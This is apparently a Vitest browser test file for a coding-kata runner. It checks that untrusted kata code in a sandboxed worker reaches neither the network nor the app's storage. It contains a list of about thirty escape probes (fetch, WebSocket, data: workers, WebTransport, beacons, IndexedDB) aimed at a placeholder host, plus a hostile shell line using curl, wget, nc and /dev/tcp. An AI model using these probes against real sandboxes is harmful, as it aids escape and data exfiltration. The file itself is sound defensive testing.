import { commands } from 'vitest/browser';
import { describe, expect, test } from 'vitest';
import { waysOutPython } from '../support/ways-out-python.ts';

// The runner in a page as it is built, under the app's own policy, with a second server beside it
// that counts what reaches it.

/** Every way out of a worker that is known, as one script; it prints what each came to. */
const waysOut = `
const ways = {
  fetch: () => fetch('http://OUTSIDE/fetch').then(() => 'OUT'),
  'fetch of the app': () => fetch('http://INSIDE/some/folder/index.html').then(() => 'OUT'),
  xhr: () => { const x = new XMLHttpRequest(); x.open('GET', 'http://OUTSIDE/xhr', false); x.send(); return 'OUT'; },
  socket: () => new Promise((yes, no) => { const s = new WebSocket('ws://OUTSIDE/socket'); s.onopen = () => yes('OUT'); s.onerror = () => no(new Error('closed')); }),
  source: () => new Promise((yes, no) => { const s = new EventSource('http://OUTSIDE/source'); s.onopen = () => yes('OUT'); s.onerror = () => no(new Error('closed')); }),
  script: () => { importScripts('http://OUTSIDE/script.js'); return 'OUT'; },
  import: () => import('http://OUTSIDE/import.js').then(() => 'OUT'),
  worker: () => new Promise((yes, no) => { const w = new Worker('http://OUTSIDE/worker.js'); w.onmessage = () => yes('OUT'); w.onerror = () => no(new Error('closed')); }),
  'nested worker': () => new Promise((yes) => {
    const code = "fetch('http://OUTSIDE/nested').then(() => postMessage('OUT'), (error) => postMessage(String(error)))";
    new Worker(URL.createObjectURL(new Blob([code]))).onmessage = ({ data }) => yes(data);
  }),
  'data worker': () => new Promise((yes, no) => { const w = new Worker("data:text/javascript,fetch('http://OUTSIDE/data')"); w.onmessage = () => yes('OUT'); w.onerror = () => no(new Error('closed')); }),
  'shared worker': () => { new SharedWorker('http://OUTSIDE/shared.js'); return 'OUT'; },
  'data script': () => { importScripts("data:text/javascript,fetch('http://OUTSIDE/data-script')"); return 'OUT'; },
  'data import': () => import("data:text/javascript,fetch('http://OUTSIDE/data-import');export default 1").then(() => 'OUT'),
  transport: () => new WebTransport('https://OUTSIDE/transport').ready.then(() => 'OUT'),
  rtc: () => { new RTCPeerConnection({ iceServers: [{ urls: 'stun:OUTSIDE' }] }).createDataChannel('x'); return 'OUT'; },
  beacon: () => 'sent ' + navigator.sendBeacon('http://OUTSIDE/beacon', 'x'),
  font: () => new FontFace('x', 'url(http://OUTSIDE/font)').load().then(() => 'OUT'),
  navigation: () => { location.href = 'http://OUTSIDE/navigation'; return 'assigned'; },
  replacing: () => { location.replace('http://OUTSIDE/replace'); return 'OUT'; },
  open: () => { open('http://OUTSIDE/open'); return 'OUT'; },
  'service worker': () => navigator.serviceWorker.getRegistrations().then(() => 'OUT'),
  broadcast: () => new Promise((yes) => { const c = new BroadcastChannel('katas'); c.onmessage = ({ data }) => yes('OUT ' + data); c.postMessage('hello'); }),
  databases: () => indexedDB.databases().then((all) => 'OUT ' + JSON.stringify(all)),
  database: () => new Promise((yes, no) => { const o = indexedDB.open('my-katas'); o.onsuccess = () => yes('OUT'); o.onerror = () => no(o.error); }),
  caches: () => caches.keys().then(() => 'OUT'),
  files: () => navigator.storage.getDirectory().then(() => 'OUT'),
  locks: () => navigator.locks.query().then(() => 'OUT'),
  eval: () => eval("'OUT'"),
  Function: () => new Function("return 'OUT'")(),
  channel: () => { new BroadcastChannel('katas').postMessage('hello'); return 'sent'; },
  page: () => typeof document + typeof parent + typeof localStorage,
};
const tell = async (ready) => {
  const told = {};
  for (const [name, way] of Object.entries(ways)) {
    const late = new Promise((yes) => setTimeout(() => yes('nothing came'), 200));
    try { told[name] = await Promise.race([late, way()]); } catch (error) { told[name] = String(error); }
  }
  return told;
};
`;

type Told = Readonly<Record<string, string>>;

describe('in the app as it is built', () => {
  test('a run works under its policy, below a folder', async () => {
    const { result, complaints, hasSandboxAttribute } = await commands.inBuiltPage({
      files: {
        'cyber-dojo.sh': 'node test.js | sort\n',
        'test.js':
          "require('assert').equal(require('./a'), 42); console.log('b'); console.log('a');",
        'a.js': 'module.exports = 42',
      },
    });
    expect(result).toMatchObject({ kind: 'finished', stdout: 'a\nb\n', stderr: '', status: '0' });
    expect(complaints).toEqual([]);
    expect(hasSandboxAttribute).toBe(true);
  });

  test('the server beside it would count', async () => {
    const { hits } = await commands.inBuiltPage({ control: true, files: { 'cyber-dojo.sh': '' } });
    expect(hits).toEqual(['GET /control']);
  });

  test('hostile code of a kata reaches no network and nothing of the app', async () => {
    const { result, hits, heard } = await commands.inBuiltPage({
      files: {
        'cyber-dojo.sh':
          'curl http://OUTSIDE/curl; wget http://OUTSIDE/wget; exec 3<>/dev/tcp/127.0.0.1/80; nc OUTSIDE; ping OUTSIDE\nnode out.js\n',
        'out.js': `${waysOut} tell().then((told) => console.log(JSON.stringify(told)));`,
      },
    });
    expect(hits).toEqual([]);
    expect(heard).toEqual([]);
    if (result.kind !== 'finished') throw new Error(JSON.stringify(result));
    const told = JSON.parse(result.stdout) as Told;
    expect(Object.keys(told).length).toBe(31);
    expect(Object.entries(told).filter(([, what]) => what.startsWith('OUT'))).toEqual([]);
    expect(told['page']).toBe('undefinedundefinedundefined');
  });

  test('nor does hostile Python', async () => {
    const { result, hits, heard } = await commands.inBuiltPage({
      files: waysOutPython,
      imageName: 'pocket-dojo/python_unittest',
    });
    expect(hits).toEqual([]);
    expect(heard).toEqual([]);
    if (result.kind !== 'finished') throw new Error(JSON.stringify(result));
    const told = result.stdout.split('\n').filter((line) => line.includes('\t'));
    expect(told.length).toBeGreaterThan(20);
    expect(told.filter((line) => line.includes('\tOUT'))).toEqual([]);
  });

  test('nor does code that has got the whole worker', async () => {
    const worker = `${waysOut}
onmessage = ({ ports: [port] }) => {
  port.onmessage = async () => {
    const stdout = JSON.stringify(await tell());
    const truncations = { stdout: false, stderr: false };
    port.postMessage({ kind: 'ran', ran: { stdout, stderr: '', status: '0', truncations, created: {}, changed: {} } });
  };
  port.postMessage({ kind: 'ready' });
};`;
    const { result, hits, heard } = await commands.inBuiltPage({ files: {}, worker });
    expect(hits).toEqual([]);
    expect(heard).toEqual([]);
    if (result.kind !== 'finished') throw new Error(JSON.stringify(result));
    const told = JSON.parse(result.stdout) as Told;
    expect(Object.entries(told).filter(([, what]) => what.startsWith('OUT'))).toEqual([]);
    expect(told['database']).toMatch(/SecurityError|Access/);
    expect(told['page']).toBe('undefinedundefinedundefined');
  });
});
